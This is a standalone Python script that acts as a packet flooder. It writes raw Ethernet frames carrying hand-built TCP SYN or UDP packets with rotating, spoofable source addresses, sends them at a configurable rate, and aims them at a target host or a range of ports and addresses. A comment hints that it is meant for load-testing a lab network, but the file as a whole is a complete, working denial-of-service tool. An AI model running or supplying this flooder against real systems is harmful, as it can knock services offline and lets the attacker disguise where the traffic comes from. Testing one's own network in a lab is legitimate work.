"""A host that floods: first packets of new sessions, as many as it can, at most RATE a second.

The law of this file: only the standard library; it is a program of its own, since it keeps a CPU busy:
DEVICE MAC_OF_THE_GATEWAY KIND SOURCES TARGET SECONDS RATE. SOURCES is a CIDR (/32: one address) whose hosts take turns;
KIND "syn": TCP from all source ports, "udp": from one end point to all destination ports of 256 addresses. It sends raw
frames, so that no answer reaches a socket. stdout: how many were sent.
"""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv4Network

BURST = 100


def total(data: bytes) -> int:
    """RFC 1071, of an even number of bytes."""
    value: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return value ^ 0xFFFF


def datagram(proto: int, source: IPv4Address, target: IPv4Address, sport: int, dport: int) -> bytes:
    if proto == 6:
        body = struct.pack("!HHIIBBHHH", sport, dport, sport << 8, 0, 0x50, 2, 8192, 0, 0)
        pseudo = source.packed + target.packed + struct.pack("!HH", 6, len(body))
        body = body[:16] + struct.pack("!H", total(pseudo + body)) + body[18:]
    else:
        body = struct.pack("!HHHH", sport, dport, 12, 0) + b"junk"
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0x4000, 64, proto, 0) + source.packed + target.packed
    return head[:10] + struct.pack("!H", total(head)) + head[12:] + body


def packets(kind: str, sources: list[IPv4Address], target: IPv4Address) -> Iterator[bytes]:
    """No two are of one session, until all ports were used."""
    for number in itertools.count():
        turn, place = divmod(number, len(sources))
        if kind == "syn":
            yield datagram(6, sources[place], target, 1024 + turn % 64512, 80)
        else:
            yield datagram(17, sources[place], target + (turn >> 16) % 256, 4000, turn % 65535 + 1)


def main(device: str, mac: str, kind: str, sources: str, target: str, seconds: str, rate: str) -> None:
    network = IPv4Network(sources)
    hosts = [one for one in network.hosts() if network.prefixlen == 32 or int(one) & 0xFF > 20]  # not those of the lab
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((device, 0))
        head = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
        began, sent = time.monotonic(), 0
        for one in packets(kind, hosts, IPv4Address(target)):
            wire.send(head + one)
            sent += 1
            if sent % BURST == 0:
                ahead = sent / float(rate) - (time.monotonic() - began)
                if time.monotonic() - began > float(seconds):
                    break
                if ahead > 0:
                    time.sleep(ahead)
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
